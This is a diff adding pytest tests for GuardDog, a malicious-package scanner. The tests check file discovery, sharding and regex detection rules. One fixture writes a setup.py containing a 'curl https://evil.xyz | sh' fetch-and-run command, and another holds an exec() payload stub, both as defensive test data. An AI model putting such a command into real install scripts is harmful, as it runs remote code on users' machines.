@@ -0,0 +1,112 @@
+import pytest
+
+from guarddog.analyzer.regex_rules import RegexRule
+from guarddog.analyzer.targets import discover_targets, group_rules_by_targets, match_targets, shard_targets
+
+
+def test_discover_targets(tmp_path):
+    (tmp_path / "package").mkdir()
+    (tmp_path / "package" / "index.js").write_text("module.exports = require('./lib');\n")
+    (tmp_path / "package" / "setup.py").write_text("from setuptools import setup\n")
+    (tmp_path / "package" / "bundle.js").write_text("var a=1;" * 500 + "\n")
+    (tmp_path / "package" / "index.min.js").write_text("var a=1;\n" * 1000)
+    (tmp_path / "package" / "small.min.js").write_text("var a=1;\n")
+    (tmp_path / "package" / "app.js").write_text("var a=1;\n//# sourceMappingURL=app.js.map\n")
+    (tmp_path / "package" / "payload.py").write_text("exec('" + "A" * 5000 + "')\n")
+    (tmp_path / "package" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n")
+    (tmp_path / "package" / "data.bin").write_bytes(b"abc\x00def")
+    (tmp_path / "package" / "node_modules").mkdir()
+    (tmp_path / "package" / "node_modules" / "index.js").write_text("")
+    (tmp_path / "package" / "tests").mkdir()
+    (tmp_path / "package" / "tests" / "test.py").write_text("")
+
+    targets = discover_targets(str(tmp_path), ["tests", "node_modules"])
+
+    assert sorted(targets.files) == [
+        "package/app.js", "package/index.js", "package/payload.py", "package/setup.py", "package/small.min.js"
+    ]
+    assert sorted(targets.minified) == ["package/bundle.js", "package/index.min.js"]
+    assert targets.get_statistics() == {
+        "source_files": 5,
+        "minified_files": 2,
+        "excluded_directories": 2,
+        "binary_files": 2
+    }
+
+
+@pytest.mark.parametrize("path, targets, expected", [
+    ("setup.py", ["setup.py"], True),
+    ("foo/setup.py", ["setup.py"], True),
+    ("foo/setup.cfg", ["setup.py"], False),
+    ("foo/bar/index.mjs", ["*.js", "*.mjs"], True),
+    ("foo/bar/index.py", ["foo/*.py"], True),
+    ("bar/index.py", ["foo/*.py"], False),
+])
+def test_match_targets(path, targets, expected):
+    assert match_targets(path, targets) == expected
+
+
+def test_group_rules_by_targets():
+    groups = group_rules_by_targets(
+        ["a", "b", "c", "d"],
+        {"a": ["*.py"], "b": ["*.js", "*.py"], "c": ["*.py", "*.js"], "d": None}
+    )
+    assert groups == {("*.py",): ["a"], ("*.js", "*.py"): ["b", "c"], None: ["d"]}
+
+
+def test_shard_targets_balances_sizes():
+    sizes = {"a.py": 8, "b.py": 7, "c.py": 4, "d.py": 3}
+    shards = shard_targets(list(sizes), sizes, max_shards=2, min_shard_size=1, max_shard_files=100)
+
+    assert sorted(file for shard in shards for file in shard) == sorted(sizes)
+    assert sorted(sum(sizes[file] for file in shard) for shard in shards) == [11, 11]
+
+
+def test_shard_targets_limits():
+    sizes = {f"{i}.py": 10 for i in range(10)}
+
+    # Small packages are not worth splitting
+    assert len(shard_targets(list(sizes), sizes, max_shards=4, min_shard_size=1000, max_shard_files=100)) == 1
+    assert len(shard_targets(list(sizes), sizes, max_shards=4, min_shard_size=1, max_shard_files=100)) == 4
+    # The number of files per shard is bounded, even beyond max_shards
+    shards = shard_targets(list(sizes), sizes, max_shards=1, min_shard_size=1000, max_shard_files=3)
+    assert len(shards) == 4
+    assert all(len(shard) <= 3 for shard in shards)
+    assert shard_targets([], {}, max_shards=4, min_shard_size=1, max_shard_files=100) == []
+
+
+@pytest.mark.parametrize("rule, is_regex_rule", [
+    ({"id": "a", "message": "", "pattern-regex": "foo"}, True),
+    ({"id": "a", "message": "", "patterns": [{"pattern-not-regex": "#.*"}, {"pattern-regex": "foo"}]}, True),
+    ({"id": "a", "message": "", "patterns": [{"pattern-either": [{"pattern-regex": "a"}, {"pattern-regex": "b"}]}]},
+     True),
+    ({"id": "a", "message": "", "pattern": "eval(...)"}, False),
+    ({"id": "a", "message": "", "patterns": [{"pattern-regex": "foo"}, {"pattern-regex": "bar"}]}, False),
+    ({"id": "a", "message": "", "patterns": [{"pattern-either": [{"pattern-regex": "a"}, {"pattern": "b"}]}]},
+     False),
+])
+def test_regex_rule_from_semgrep_rule(rule, is_regex_rule):
+    assert (RegexRule.from_semgrep_rule(rule) is not None) == is_regex_rule
+
+
+def test_regex_rule_analyze_file(tmp_path):
+    rule = RegexRule.from_semgrep_rule({
+        "id": "shady",
+        "message": "",
+        "patterns": [{"pattern-not-regex": r"\# .*"}, {"pattern-regex": r"http://.*\.xyz$"}]
+    })
+    path = tmp_path / "file.py"
+    path.write_text("a = 1\nurl = 'http://evil.xyz\n# see http://example.xyz\nfetch(http://other.xyz\n")
+
+    assert rule.analyze_file(str(path)) == [(2, "http://evil.xyz"), (4, "http://other.xyz")]
+
+
+def test_discover_targets_analyzes_source_files_starting_like_binaries(tmp_path):
+    (tmp_path / "setup.py").write_text('MZ=0\nimport os\nos.system("curl https://evil.xyz | sh")\n')
+    (tmp_path / "index.js").write_text("module.exports = 1;\n//# sourceMappingURL=index.js.map\n")
+    (tmp_path / "program.exe").write_bytes(b"MZ\x90\x00\x03\x00\x00\x00")
+
+    targets = discover_targets(str(tmp_path), [])
+
+    assert sorted(targets.files) == ["index.js", "setup.py"]
+    assert targets.get_statistics()["binary_files"] == 1